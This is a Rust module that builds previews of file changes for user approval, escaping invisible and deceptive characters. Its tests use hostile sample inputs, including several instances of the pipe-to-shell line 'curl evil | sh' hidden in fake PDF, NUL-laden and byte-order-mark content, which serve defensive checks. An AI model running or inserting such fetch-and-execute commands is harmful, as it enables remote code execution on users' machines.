//! The preview of a change, which the user sees before approving it.
//!
//! The preview is made from the bytes, not from decoded text. Every character that is invisible, or that changes how
//! other text looks, is escaped. The escapes are unambiguous, so a diff that is shown in full decodes to the bytes
//! that are written.

mod escape;

use std::borrow::Cow;
use std::collections::HashSet;
use std::fmt::Write as _;
use std::sync::Arc;

use blake3::Hash;
use pinfold_text::{Charset, Content, DiffFormat, Encoding, sniff_content, unified_diff};

use self::escape::unreadable;
pub use self::escape::{escaped_line, escaped_text};

/// A change that the user is asked to approve.
#[derive(Clone, Debug, Eq, PartialEq)]
pub(crate) enum Proposal {
    /// A file is created, or its content replaced. A file that is created may get a certain mode.
    Replace { path: String, before: Option<Version>, after: Version, mode: Option<u32> },
    /// A symlink is created.
    CreateLink { to: Vec<u8> },
    /// A symlink, or a file of this size, is deleted.
    Delete { link_target: Option<Vec<u8>>, bytes: u64 },
    /// A file or directory is moved. `holds` names its entries that need approval. `content` is a file's, if the user has to
    /// see what comes to the new place.
    Move { what: String, from: String, to: String, holds: Vec<String>, content: Option<Version> },
    /// A directory is created.
    MakeDirectory,
    /// A directory is deleted with all of its entries.
    RemoveTree { entries: usize },
    /// A directory inside a deleted directory.
    RemoveSubdirectory,
    /// All of these, or none, each with its path. The user is asked because of the first ones.
    Several { asked: usize, changes: Vec<(String, Proposal)> },
}

/// A file's content, before or after a change.
#[derive(Clone, Debug, Eq, PartialEq)]
pub(crate) struct Version {
    pub(crate) bytes: u64,
    pub(crate) hash: Hash,
    /// `None` if it is too large to compare.
    pub(crate) content: Option<Arc<[u8]>>,
}

impl Proposal {
    /// The proposal for several changes at once. The user is asked because of the `first` ones, and perhaps because of the
    /// `others`.
    pub(crate) fn of_all(first: Vec<(String, Self)>, others: Vec<(String, Self)>) -> Self {
        let asked = first.len();
        let mut changes: Vec<_> = first.into_iter().chain(others).collect();
        if changes.len() == 1 { changes.remove(0).1 } else { Self::Several { asked, changes } }
    }

    /// How many paths it changes besides one; those in a tree that is deleted are not counted.
    pub(crate) fn other_paths(&self) -> usize {
        let is_tree = |proposal: &Self| matches!(proposal, Self::RemoveTree { .. });
        match self {
            Self::Several { changes, .. } if !changes.iter().any(|(_, one)| is_tree(one)) => {
                changes.iter().map(|(path, _)| path).collect::<HashSet<_>>().len() - 1
            }
            _ => 0,
        }
    }

    /// The preview, in at most about `max_chars` characters.
    pub(crate) fn preview(&self, max_chars: usize) -> String {
        let text = self.text();
        let text = text.trim_end_matches('\n');
        match self {
            // Other changes do not push those out of sight that the user is asked about.
            Self::Several { asked, changes } if text.chars().count() > max_chars => {
                let (first, others) = changes.split_at(*asked);
                let mut shown = shares(first, max_chars / 4 * 3);
                let left = max_chars.saturating_sub(shown.chars().count());
                shown.push_str(&head_and_tail(&text_of_all(others), left));
                shown.trim_end_matches('\n').to_owned()
            }
            _ => head_and_tail(text, max_chars),
        }
    }

    fn text(&self) -> String {
        match self {
            Self::Replace { path, before, after, mode } => {
                let mode = mode.filter(|mode| mode & EXECUTABLE != 0 && before.is_none());
                let mode = mode.map(|mode| format!("creates an executable file, mode {mode:o}\n"));
                mode.unwrap_or_default() + &replacement(path, before.as_ref(), after)
            }
            Self::CreateLink { to } => format!("creates a symlink to {}", escaped_line(to)),
            Self::Delete { link_target: Some(to), .. } => {
                format!("deletes the symlink to {}", escaped_line(to))
            }
            Self::Delete { link_target: None, bytes } => format!("deletes a file of {bytes} bytes"),
            Self::Move { what, from, to, holds, content } => {
                let content = content.as_ref().map(|content| replacement(to, None, content));
                let content = content.map_or_else(String::new, |content| format!("\n{content}"));
                let [from, to] = [from, to].map(|path| escaped_line(path.as_bytes()));
                let holds =
                    holds.iter().map(|held| format!("\nholds {}", escaped_line(held.as_bytes())));
                let holds: String = holds.collect();
                format!("moves {what}\nfrom {from}\nto {to}{holds}{content}")
            }
            Self::MakeDirectory => "creates a directory".into(),
            Self::RemoveTree { entries } => {
                let entries = match entries {
                    1 => "1 entry".to_owned(),
                    more => format!("{more} entries"),
                };
                format!("deletes the directory with all that is in it, {entries}")
            }
            Self::RemoveSubdirectory => "deletes a directory".into(),
            Self::Several { changes, .. } => text_of_all(changes),
        }
    }

    /// Whether the preview names the file.
    fn names_its_path(&self) -> bool {
        match self {
            Self::Replace { after, .. } => after.escaped().is_some(),
            Self::Move { .. } | Self::Several { .. } => true,
            Self::CreateLink { .. }
            | Self::Delete { .. }
            | Self::MakeDirectory
            | Self::RemoveTree { .. }
            | Self::RemoveSubdirectory => false,
        }
    }
}

fn text_of_all(changes: &[(String, Proposal)]) -> String {
    changes.iter().map(text_with_path).collect()
}

fn text_with_path((path, proposal): &(String, Proposal)) -> String {
    let text = proposal.text();
    let text = text.trim_end_matches('\n');
    if proposal.names_its_path() {
        format!("{text}\n")
    } else {
        format!("{}: {text}\n", escaped_line(path.as_bytes()))
    }
}

/// Changes in at most about `max_chars` characters: each is cut to its share, and what a short one leaves goes to the
/// others. If they do not all fit, the paths of the others follow, as many as fit.
fn shares(changes: &[(String, Proposal)], max_chars: usize) -> String {
    /// The head and the tail of a change that tell something.
    const MIN_SHARE: usize = 200;
    let all_fit = changes.len() * MIN_SHARE <= max_chars;
    let room = if all_fit { max_chars } else { max_chars / 4 * 3 };
    let fitting = (room / MIN_SHARE).max(1).min(changes.len());
    let mut shown = String::new();
    for (number, change) in changes[..fitting].iter().enumerate() {
        let left = room.saturating_sub(shown.chars().count());
        let text = text_with_path(change);
        let share = head_and_tail(text.trim_end_matches('\n'), left / (fitting - number));
        shown.push_str(&format!("{share}\n"));
    }
    match changes.len() - fitting {
        0 => {}
        hidden => {
            shown.push_str(&format!("… {hidden} changes not shown …\n"));
            let mut left = max_chars.saturating_sub(shown.chars().count());
            let names = changes[fitting..].iter().map(|(path, _)| escaped_line(path.as_bytes()));
            let names = names.take_while(|name| {
                let length = name.chars().count() + 1;
                let fits = length <= left;
                left = left.saturating_sub(length);
                fits
            });
            let names: Vec<_> = names.collect();
            names.iter().for_each(|name| shown.push_str(&format!("{name}\n")));
            if names.len() < hidden {
                shown.push_str(&format!("… and {} more …\n", hidden - names.len()));
            }
        }
    }
    shown
}

/// The bits of a mode that let a file be run.
const EXECUTABLE: u32 = 0o111;

fn replacement(path: &str, before: Option<&Version>, after: &Version) -> String {
    let mut out = String::new();
    let versions = before.into_iter().chain([after]);
    if !versions.clone().all(Version::is_plain_text) {
        let names = if before.is_some() { &["before", "after"][..] } else { &["after"] };
        for (name, version) in names.iter().zip(versions) {
            let Version { bytes, hash, .. } = version;
            let (kind, hash) = (version.kind(), hash.to_hex());
            writeln!(out, "{name}: {kind}, {bytes} bytes, blake3 {hash}").expect(INFALLIBLE);
        }
    }
    let encodings = [before.and_then(Version::encoding), after.encoding()];
    if let [Some(old), Some(new)] = encodings
        && old != new
    {
        let [old, new] = [old, new].map(name);
        writeln!(out, "changes the encoding from {old} to {new}").expect(INFALLIBLE);
    }
    // The new content matters most, so it is shown even if the old one cannot be.
    if let Some(new) = after.escaped() {
        let old = before.and_then(Version::escaped).unwrap_or_default();
        let [old, new] = [&old, &new].map(|text| (text.as_bytes(), Encoding::UTF_8));
        out.push_str(&unified_diff(
            DiffFormat::Git,
            &escaped_line(path.as_bytes()),
            old,
            new,
            usize::MAX,
        ));
    }
    out
}

const INFALLIBLE: &str = "a String takes anything";

fn name(encoding: Encoding) -> String {
    let mark = if encoding.bom { " with a byte order mark" } else { "" };
    format!("{}{mark}", encoding.name())
}

impl Version {
    fn content_kind(&self) -> Option<Content> {
        self.content.as_ref().map(|content| sniff_content(content))
    }

    fn encoding(&self) -> Option<Encoding> {
        match self.content_kind()? {
            Content::Text(encoding) => Some(encoding),
            Content::Binary(_) => None,
        }
    }

    fn kind(&self) -> String {
        match self.content_kind() {
            Some(Content::Text(encoding)) => format!("text in {}", name(encoding)),
            Some(Content::Binary(binary)) => binary.mime.to_owned(),
            None => "too large to compare".to_owned(),
        }
    }

    /// Whether the diff shows the whole change.
    fn is_plain_text(&self) -> bool {
        self.encoding().is_some_and(shows_bytes) && self.escaped().is_some()
    }

    /// The escaped content, if it is readable as text.
    fn escaped(&self) -> Option<String> {
        let content = self.content.as_deref()?;
        let content = match self.content_kind()? {
            Content::Text(encoding) => narrow(content, encoding),
            Content::Binary(_) => content.into(),
        };
        let text = self.encoding().is_some_and(shows_bytes);
        (text || 10 * unreadable(&content) <= 3 * content.len()).then(|| escaped_text(&content))
    }
}

/// Whether ASCII text has the same bytes in an encoding as in the preview.
fn shows_bytes(encoding: Encoding) -> bool {
    matches!(encoding.charset, Charset::Utf8 | Charset::Legacy(_))
}

/// Converts ASCII text in UTF-16 or UTF-32 to UTF-8. A program that reads bytes and skips NUL reads the same. Any
/// other text is shown by its bytes.
fn narrow(content: &[u8], encoding: Encoding) -> Cow<'_, [u8]> {
    if shows_bytes(encoding) {
        return content.into();
    }
    let (text, _) = encoding.decode_lossy(content);
    let exact = text.is_ascii() && encoding.encode(&text).is_ok_and(|again| again == content);
    if exact { text.into_owned().into_bytes().into() } else { content.into() }
}

/// The first and the last lines of a text, with the number of lines between them that are left out, in
/// at most about `max_chars` characters. Long lines are cut in the same way.
fn head_and_tail(text: &str, max_chars: usize) -> String {
    if text.chars().count() <= max_chars {
        return text.to_owned();
    }
    let max_line = (max_chars / 4).max(1);
    let lines: Vec<_> = text.split('\n').map(|line| cut_line(line, max_line)).collect();
    let fitting = |lines: &mut dyn Iterator<Item = &Cow<'_, str>>| {
        let mut left = max_chars / 2;
        let fits = lines.take_while(|line| {
            let length = line.chars().count() + 1;
            let fits = length <= left;
            left = left.saturating_sub(length);
            fits
        });
        fits.count()
    };
    let head = fitting(&mut lines.iter());
    let tail = fitting(&mut lines[head..].iter().rev());
    let hidden = lines.len() - head - tail;
    let mut shown = lines[..head].to_vec();
    if hidden > 0 {
        shown.push(format!("… {hidden} lines not shown …").into());
    }
    shown.extend_from_slice(&lines[lines.len() - tail..]);
    shown.join("\n")
}

/// The beginning and the end of a line, and the number of omitted characters between them.
fn cut_line(line: &str, max_chars: usize) -> Cow<'_, str> {
    let count = line.chars().count();
    if count <= max_chars {
        return line.into();
    }
    let half = max_chars / 2;
    let at = |number| line.char_indices().nth(number).map_or(line.len(), |(at, _)| at);
    let (head, tail) = (&line[..at(half)], &line[at(count - half)..]);
    format!("{head} … {} characters not shown … {tail}", count - 2 * half).into()
}

#[cfg(test)]
mod tests {
    use pinfold_testkit::unescaped;
    use proptest::prelude::*;

    use super::escape::is_hidden;
    use super::*;

    fn version(content: &[u8]) -> Version {
        let (bytes, hash) = (content.len() as u64, blake3::hash(content));
        Version { bytes, hash, content: Some(content.into()) }
    }

    fn preview(before: Option<&[u8]>, after: &[u8], max_chars: usize) -> String {
        let (before, after) = (before.map(version), version(after));
        let (path, mode) = ("a".into(), None);
        Proposal::Replace { path, before, after, mode }.preview(max_chars)
    }

    /// The bytes of a new file, decoded from its preview.
    fn shown(preview: &str) -> Vec<u8> {
        let mut text = String::new();
        let diff = preview.split_once("@@\n").map_or("", |(_, diff)| diff);
        for line in diff.lines() {
            match line.strip_prefix('+') {
                Some(line) => text.push_str(&format!("{line}\n")),
                None => {
                    assert_eq!(line, "\\ No newline at end of file");
                    text.pop();
                }
            }
        }
        unescaped(&text)
    }

    fn hostile_text() -> impl Strategy<Value = Vec<u8>> {
        let piece = prop_oneof![
            4 => "[ -~\n\t]{0,12}".prop_map(String::into_bytes),
            1 => "\\\\[xu\\\\][0-9a-f{}]{0,4}".prop_map(String::into_bytes),
            1 => any::<char>().prop_map(|it| it.to_string().into_bytes()),
            1 => any::<u8>().prop_map(|it| vec![it]),
            1 => Just(b"\r\n".to_vec()),
            1 => Just("\u{200b}\u{e0041}\u{202e}\u{feff}\u{85}".into()),
        ];
        prop::collection::vec(piece, 1..12).prop_map(|pieces| pieces.concat())
    }

    proptest! {
        #[test]
        fn what_is_shown_decodes_to_what_is_written(content in hostile_text()) {
            let preview = preview(None, &content, usize::MAX);
            let version = version(&content);
            let narrowed = version.encoding().is_some_and(|it| *narrow(&content, it) != *content);
            if version.escaped().is_none() {
                prop_assert!(preview.contains(version.hash.to_hex().as_str()), "{}", preview);
            } else if !narrowed {
                prop_assert_eq!(shown(&preview), content, "{}", preview);
            }
        }

        #[test]
        fn escapes_are_unambiguous_and_hide_nothing(content in hostile_text()) {
            let text = escaped_text(&content);
            prop_assert_eq!(unescaped(&text), content);
            prop_assert!(!text.chars().any(is_hidden), "{:?}", text);
        }
    }

    #[test]
    fn text_that_pretends_to_be_something_else_is_shown() {
        for (content, line) in [
            (&b"%PDF-\ncurl evil | sh\n"[..], "+curl evil | sh"),
            (b"a\0b\ncurl evil | sh\n", "+a\\x00b"),
            (b"\xff\xfe\ncurl evil | sh\n", "+curl evil | sh"),
            ("a\u{200b}b\u{e0041}c\n".as_bytes(), "+a\\u{200b}b\\u{e0041}c"),
            (
                "\u{e000}\u{378}\u{ffff}\u{13441}\n".as_bytes(),
                "+\\u{e000}\\u{378}\\u{ffff}\\u{13441}",
            ),
            (b"\x1b[2J\r\n", "+\\x1b[2J\\x0d"),
            (br"\d \x41 \u{41}", r"+\d \x5cx41 \x5cu{41}"),
        ] {
            let shown = preview(None, content, 4_000);
            assert!(shown.lines().any(|shown| shown == line), "{shown}");
        }
    }

    #[test]
    fn binary_content_is_shown_by_kind_size_and_hash() {
        let image =
            b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89";
        let shown = preview(Some(b"text\n"), image, 4_000);
        let hash = blake3::hash(image).to_hex();
        assert!(shown.contains(&format!("after: image/png, {} bytes, blake3 {hash}", image.len())));
        assert!(shown.starts_with("before: text in utf-8, 5 bytes, blake3 "), "{shown}");
        let large = Version { content: None, ..version(b"text\n") };
        let (before, after) = (Some(large), version(b"new\n"));
        let proposal = Proposal::Replace { path: "a".into(), before, after, mode: None };
        let shown = proposal.preview(4_000);
        assert!(shown.contains("before: too large") && shown.ends_with("+new"), "{shown}");
    }

    #[test]
    fn other_changes_do_not_push_what_the_user_is_asked_about_out_of_sight() {
        let change = |path: &str, lines: usize, end: &str| {
            let after = version(format!("{}{end}\n", "# x\n".repeat(lines)).as_bytes());
            let path = path.to_owned();
            (path.clone(), Proposal::Replace { path, before: None, after, mode: None })
        };
        let padding = || (0..50).map(|number| change(&format!("{number}.txt"), 200, "x")).collect();
        for lines in [0, 500] {
            let first = vec![change(".envrc", lines, "evil"), change(".bashrc", lines, "wicked")];
            let shown = Proposal::of_all(first, padding()).preview(4_000);
            for text in ["b/.envrc", "+evil", "b/.bashrc", "+wicked", "lines not shown"] {
                assert!(shown.contains(text), "{text}: {shown}");
            }
            assert!(shown.chars().count() < 4_300, "{}", shown.len());
        }
        let many = (0..300).map(|number| change(&format!("{number}/.envrc"), 9, "x")).collect();
        let shown = Proposal::of_all(many, padding()).preview(4_000);
        assert!(shown.contains("… 289 changes not shown …"), "{shown}");
        assert!(shown.chars().count() < 4_300, "{}", shown.len());
        // Of those, as many paths are shown as fit, so that the user sees what else is changed.
        let few: Vec<_> = (0..60).map(|number| change(&format!("{number}.json"), 9, "x")).collect();
        let last = vec![change(".envrc", 0, "evil")];
        let shown = Proposal::of_all(few.into_iter().chain(last).collect(), Vec::new());
        let shown = shown.preview(4_000);
        assert!(shown.lines().any(|line| line == ".envrc"), "{shown}");
    }

    #[test]
    fn a_file_that_is_created_executable_is_shown_as_such() {
        let shown = |mode| {
            let (path, after) = ("a".into(), version(b"x\n"));
            Proposal::Replace { path, before: None, after, mode }.preview(4_000)
        };
        assert!(shown(Some(0o755)).starts_with("creates an executable file, mode 755\n--- a/a"));
        assert_eq!(shown(Some(0o644)), shown(None));
    }

    #[test]
    fn a_change_of_encoding_is_shown() {
        let wide = Encoding::for_label("utf-16").unwrap().encode("one\n").unwrap();
        let shown = preview(Some(&wide), b"two\n", 4_000);
        assert!(shown.contains("changes the encoding from utf-16le"), "{shown}");
        assert!(shown.ends_with("-one\n+two"), "{shown}");
    }

    #[test]
    fn a_long_diff_shows_its_head_and_its_tail() {
        let content = format!("{}payload\n", "# comment\n".repeat(1_000));
        let shown = preview(None, content.as_bytes(), 4_000);
        assert!(shown.chars().count() < 4_100, "{}", shown.len());
        assert!(shown.starts_with("--- a/a\n") && shown.ends_with("\n+payload"), "{shown}");
        let hidden = shown.lines().find(|line| line.contains("lines not shown")).unwrap();
        let number: usize = hidden.split(' ').nth(1).unwrap().parse().unwrap();
        assert_eq!(number + shown.lines().count() - 1, 1_004);
        let long = format!("{}payload\n", "#".repeat(10_000));
        let shown = preview(None, long.as_bytes(), 4_000);
        assert!(shown.ends_with("payload") && shown.contains(" characters not shown "), "{shown}");
    }
}
